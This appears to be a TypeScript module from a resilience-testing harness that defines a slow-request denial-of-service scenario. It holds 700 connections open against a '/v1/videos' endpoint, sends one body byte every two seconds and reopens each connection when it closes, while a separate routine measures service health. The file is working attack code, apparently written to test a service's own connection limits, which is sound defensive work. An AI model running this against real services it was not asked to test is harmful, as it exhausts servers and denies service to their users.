import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { type Duel, models, type Target } from './duel.ts'
import { type Answers, jsonBytes } from './senders.ts'
import { pollAndSubmit } from './working.ts'

const connections = 700
const byteEveryMs = 2_000

/** Requests that never become complete, on most of the connections that the system grants. */
export const withheld: Duel = {
  title: `${connections} submits of a byte every ${byteEveryMs / 1_000} s, 1024 open files`,
  mostOpenFiles: 1_024,
  async openAttack({ answers }) {
    return {
      allow: [],
      async begin(target) {
        const first = Array.from({ length: connections }, async () => {
          const opened = Promise.withResolvers<void>()
          void withholdForever(target, answers, opened.resolve)
          await opened.promise
        })
        await Promise.all(first)
      },
    }
  },
  openMeasures: ({ target }) => pollAndSubmit(target),
}

/** Whenever the service ends the connection, it opens another one. */
async function withholdForever(target: Target, answers: Answers, onOpen: () => void): Promise<void> {
  for (;;) {
    const status = await withhold(target, onOpen)
    answers.set(status, (answers.get(status) ?? 0) + 1)
    await pause(byteEveryMs)
  }
}

/** The status of the answer, which is one to an unfinished request. */
async function withhold(target: Target, onOpen: () => void): Promise<string> {
  const { hostname, port } = new URL(target.url)
  const bytes = jsonBytes(target, '/v1/videos', { model: models.attacking, prompt: 'x'.repeat(1_000) })
  // All headers at once: their deadline is shorter.
  let sent = bytes.indexOf('\r\n\r\n') + 4
  let status = 'none'
  const socket = connect(Number(port), hostname)
  socket.once('connect', () => {
    socket.write(bytes.subarray(0, sent))
    onOpen()
  })
  socket.on('data', (chunk: Buffer) => {
    if (status === 'none') status = chunk.toString('latin1', 9, 12)
  })
  socket.on('error', () => {})
  const timer = setInterval(() => socket.write(bytes.subarray(sent, ++sent)), byteEveryMs)
  await new Promise((resolve) => socket.once('close', resolve))
  clearInterval(timer)
  onOpen()
  return status
}
